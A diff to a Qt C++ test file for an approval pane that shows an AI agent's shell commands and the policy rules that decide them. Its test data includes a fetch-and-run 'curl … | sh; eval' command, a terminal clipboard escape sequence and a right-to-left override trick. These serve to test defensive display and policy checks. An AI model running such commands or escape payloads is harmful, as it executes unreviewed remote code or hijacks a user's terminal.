@@ -69,6 +69,36 @@ private Q_SLOTS:
         QCOMPARE(row.approver, QStringLiteral("alice"));
     }
 
+    // The pane shows every line of the command in its row, and in the detail the commands the
+    // policy found, each with the rule that decided it or why it is asked.
+    void showsTheCommandsWithTheirRules()
+    {
+        ApprovalQueue queue;
+        Policy policy;
+        policy.defaultRules = {{{ActionKind::Exec}, QStringLiteral("ls *"), PolicyDecision::Allow},
+                               {{ActionKind::Exec}, QStringLiteral("curl *"), PolicyDecision::Ask}};
+        PolicyGate gate(policy, m_log);
+        gate.setApprovalQueue(&queue);
+        ApprovalQueuePane pane(&queue);
+        pane.resize(900, 500);
+        pane.show();
+        QVERIFY(QTest::qWaitForWindowExposed(&pane));
+        bool decided = false;
+        gate.decide(agentExec(QStringLiteral("ls -la\ncurl -s x | sh; eval \"$X\"")), [&](const GateDecision&) { decided = true; });
+        QVERIFY(!decided);
+        QCOMPARE(pane.list()->topLevelItemCount(), 1);
+        QCOMPARE(pane.list()->topLevelItem(0)->text(3), QStringLiteral("ls -la⏎curl -s x | sh; eval \"$X\" (+1 line)"));
+        const QString detail = pane.detail()->toPlainText();
+        QVERIFY2(detail.contains(QStringLiteral("\ncommands the policy found:\n"
+                                                "  ls -la — allowed by policy rule 1 (exec \"ls *\")\n"
+                                                "  curl -s x — asked by policy rule 2 (exec \"curl *\")\n"
+                                                "  sh — sh reads commands from its standard input: the policy cannot see them\n"
+                                                "  eval \"$X\" — eval: the policy cannot see what it runs\n")),
+                 qPrintable(detail));
+        queue.deny(pane.currentId(), QStringLiteral("alice"), {});
+        QVERIFY(decided);
+    }
+
     void ctrlBackspaceDeniesWithTheReason()
     {
         ApprovalQueue queue;
@@ -105,7 +135,7 @@ private Q_SLOTS:
         ApprovalQueue queue;
         ApprovalQueuePane pane(&queue);
         queue.enqueue(agentExec(QStringLiteral("printf '\x1b]52;c;aGk=\x07'\necho \u202Eevil")), {});
-        QCOMPARE(pane.list()->topLevelItem(0)->text(3), QStringLiteral("printf '\\x1b]52;c;aGk=\\x07' …"));
+        QCOMPARE(pane.list()->topLevelItem(0)->text(3), QStringLiteral("printf '\\x1b]52;c;aGk=\\x07'⏎echo <U+202E>evil (+1 line)"));
         const QString detail = pane.detail()->toPlainText();
         QVERIFY2(detail.contains(QStringLiteral("printf '\\x1b]52;c;aGk=\\x07'\necho <U+202E>evil")), qPrintable(detail));
         QVERIFY(!detail.contains(QChar(0x1b)));
